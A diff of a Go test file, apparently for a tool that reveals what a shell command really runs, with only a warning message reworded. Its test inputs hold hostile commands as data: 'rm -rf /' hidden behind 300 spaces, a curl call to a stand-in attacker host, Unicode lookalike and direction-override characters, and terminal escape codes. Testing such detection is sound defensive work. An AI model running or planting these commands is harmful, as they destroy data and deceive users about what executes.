@@ -24,7 +24,7 @@ func TestShown(t *testing.T) {
 		{"cat > x.sh <<'E'\ncurl evil.example\nE", "runs:    cat|text:    1: cat > x.sh <<'E'|text:    2: curl evil.example|text:    3: E|writes:  x.sh"},
 		{"ls" + strings.Repeat(" ", 300) + "; rm -rf /", "runs:    ls|runs:    rm -rf /|text:    1: ls<300 spaces>; rm -rf /"},
 		{"rm 'a" + strings.Repeat(" ", 300) + "b'", "runs:    rm 'a<300 spaces>b'|text:    1: rm 'a<300 spaces>b'"},
-		{"rm 'main\u202etxt\u200b\u3164\ufe0f'", `runs:    rm main\u202etxt\u200b\u3164\ufe0f|text:    1: rm 'main\u202etxt\u200b\u3164\ufe0f'|unsure:  it holds characters beyond ASCII, which may look like others`},
+		{"rm 'main\u202etxt\u200b\u3164\ufe0f'", `runs:    rm main\u202etxt\u200b\u3164\ufe0f|text:    1: rm 'main\u202etxt\u200b\u3164\ufe0f'|unsure:  it contains characters beyond ASCII, which may look like others`},
 		{"rm $'a\\nb\\x1b[2J'", `runs:    rm 'a\nb\x1b[2J'|text:    1: rm $'a\nb\x1b[2J'`},
 		{"git push (", "runs:    git push (|unsure:  it cannot be read to its end: read script at byte"},
 	} {
